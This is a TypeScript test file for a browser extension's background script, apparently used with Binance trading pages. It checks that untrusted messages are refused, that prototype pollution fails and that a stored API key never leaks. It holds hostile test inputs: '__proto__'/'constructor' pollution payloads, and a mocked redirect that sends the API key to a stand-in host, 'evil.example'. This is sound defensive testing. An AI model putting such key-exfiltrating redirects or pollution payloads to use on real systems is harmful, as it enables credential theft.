import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { pageParams } from '@/utils/messages/params';
import { htmlAnswer, jsonAnswer, type SandboxAnswer, type SandboxRequest } from '../../sandbox/answer';
import { PAGE_ASKED, PAGE_QUESTIONS, ROOM_ASKED } from './questions';
import { page, rooms, STRANGERS } from './senders';
import { spoiltWays } from './spoilt';
import { COIN_KEY, KEPT_KEY, wholeBackground } from './whole-background';

/** Everything that reaches the browser, as the background says it. */
const told = vi.hoisted(() => ({ calls: [] as unknown[] }));
vi.mock('webextension-polyfill', () => {
  const note =
    (name: string) =>
    async (...given: unknown[]) => {
      told.calls.push([name, ...given]);
      return [];
    };
  return {
    default: {
      action: {
        setBadgeText: note('setBadgeText'),
        setTitle: note('setTitle'),
        setBadgeBackgroundColor: note('setBadgeBackgroundColor'),
      },
      scripting: { executeScript: note('executeScript') },
      runtime: { openOptionsPage: note('openOptionsPage') },
      tabs: { query: note('query') },
      i18n: { getMessage: (key: string) => key },
    },
  };
});
vi.stubGlobal('navigator', { language: 'en', onLine: true, storage: { estimate: async () => null } });

beforeEach(() => {
  told.calls.length = 0;
});

const REFUSED = { ok: false, error: 'refused' };

describe('a refused message', () => {
  it('of any stranger, about anything, changes nothing, asks nobody and opens nothing', async () => {
    const { route, state } = await wholeBackground();
    const before = await state();
    for (const [who, sender] of Object.entries(STRANGERS))
      for (const asked of [...PAGE_ASKED, ...ROOM_ASKED])
        expect([who, asked.verb, await route(asked, sender)]).toEqual([who, asked.verb, REFUSED]);
    expect(await state()).toBe(before);
    expect(told.calls).toEqual([]);
  });

  it('of a page that asks what only our own pages may changes nothing', async () => {
    const { route, state } = await wholeBackground();
    const before = await state();
    for (const asked of ROOM_ASKED) {
      if (!Object.hasOwn(pageParams, asked.verb)) expect(await route(asked, page)).toEqual(REFUSED);
    }
    expect(await state()).toBe(before);
    expect(told.calls).toEqual([]);
  });

  it('that is wrong in any way changes nothing', async () => {
    const { route, state } = await wholeBackground();
    const before = await state();
    for (const [askeds, sender] of [
      [PAGE_ASKED, page],
      [ROOM_ASKED, rooms[0] ?? {}],
    ] as const) {
      for (const asked of askeds)
        for (const [what, message] of spoiltWays(asked, () => 1))
          expect([what, await route(message, sender)]).toEqual([what, REFUSED]);
    }
    expect(await state()).toBe(before);
    expect(told.calls).toEqual([]);
  });
});

describe('a file that is taken over', () => {
  it('reaches no prototype and no key, whatever its fields are called', async () => {
    const { route, worker } = await wholeBackground();
    const [room = {}] = rooms;
    const hostile = ['__proto__', 'constructor', 'prototype', 'vault', 'records', 'back-off'].map((name) =>
      JSON.parse(
        `{"plimsoll":1,"exportedAt":"now","settings":{"${name}":{"theme":"dark"}},"choices":{"${name}":1},"watchList":[1],"places":{"${name}":{"edge":"left","along":0}},"hiddenContracts":["${name}"]}`,
      ),
    );
    for (const data of hostile) await route({ plimsoll: 1, verb: 'importData', params: { data } }, room);
    expect(Object.hasOwn(Object.prototype, 'theme')).toBe(false);
    expect(await worker.vault.read()).toEqual({ ok: true, value: KEPT_KEY });
    const exported = await route({ plimsoll: 1, verb: 'exportData', params: {} }, room);
    expect(JSON.stringify(exported)).not.toContain(KEPT_KEY);
  });
});

/** What a service may do with a key that it was sent: say it again, wherever an answer has words of its own. */
const ECHOES: Readonly<Record<string, (request: SandboxRequest) => SandboxAnswer | null>> = {
  'the service as it is': () => null,
  'a refusal that repeats the key': ({ headers }) => said(401, headers['x-api-key']),
  'a plan that names the key': ({ headers }) => said(403, headers['x-api-key']),
  'spent credits that name the key': ({ headers }) => said(429, headers['x-api-key']),
  'a server error that names the key': ({ headers }) => said(500, headers['x-api-key']),
  'a success that says the key': ({ headers }) => said(200, headers['x-api-key']),
  'a page with the key in it': ({ headers }) =>
    htmlAnswer(`<h1>${headers['x-api-key']}</h1>`, 403, { 'retry-after': `${headers['x-api-key']}` }),
  'an address with the key in it': ({ headers }) => ({
    status: 302,
    headers: { location: `https://evil.example/?key=${headers['x-api-key']}` },
    body: '',
  }),
  'the broken line': () => {
    throw new TypeError(`failed to fetch with ${KEPT_KEY}`);
  },
};

function said(status: number, key: string | undefined): SandboxAnswer {
  const words = `key ${key} (monthly credits): invalid`;
  return jsonAnswer({ success: false, message: words, error: { message: words }, data: words }, status);
}

describe('no answer to a page', () => {
  afterEach(() => vi.restoreAllMocks());

  it.each(Object.entries(ECHOES))('tells a key: %s', async (_what, echo) => {
    const logged = (['log', 'warn', 'error', 'info', 'debug'] as const).map((level) =>
      vi.spyOn(console, level).mockImplementation(() => {}),
    );
    const { line, route, sent, worker, clock } = await wholeBackground();
    line.instead = (request) => (request.headers['x-api-key'] === undefined ? null : echo(request));
    const answers: unknown[] = [];
    for (let round = 0; round < 2; round += 1) {
      for (const asked of PAGE_ASKED) answers.push(await route(asked, page));
      await worker.errands.round();
      clock.nowMs += 26 * 3_600_000;
    }
    expect(sent.some(({ headerNames }) => headerNames.includes('x-api-key'))).toBe(true);
    for (const where of [answers, told.calls, sent, logged.flatMap((spy) => spy.mock.calls)]) {
      const text = JSON.stringify(where);
      expect(text).not.toContain(KEPT_KEY);
      expect(text).not.toContain(COIN_KEY);
      // Nor a part by which it could be told from others.
      expect(text).not.toContain(KEPT_KEY.slice(-8));
    }
  });

  it('tells a key, whatever is asked of whatever page', async () => {
    const { route } = await wholeBackground();
    const verbs = Object.entries(PAGE_QUESTIONS).flatMap(([verb, each]) =>
      each.map((one) => [verb, one] as const),
    );
    const paths = [
      'en/futures/BTCUSDT',
      'en/trade/BTC_USDT',
      'en/futures/NEIROUSDT',
      'en/markets',
      'en/futures/TSLAUSDT',
    ];
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...verbs),
        fc.constantFrom(...paths),
        fc.webQueryParameters(),
        async ([verb, params], path, query) => {
          const href = `https://www.binance.com/${path}?${query}`;
          const about = 'href' in params ? { ...params, href } : params;
          const answer = JSON.stringify(await route({ plimsoll: 1, verb, params: about }, page));
          expect(answer).not.toContain(KEPT_KEY);
          expect(answer).not.toContain(COIN_KEY);
          expect(answer).not.toMatch(/"(?:tail|plain|sealed|passphrase)"/);
        },
      ),
      { numRuns: 40 },
    );
  });
});
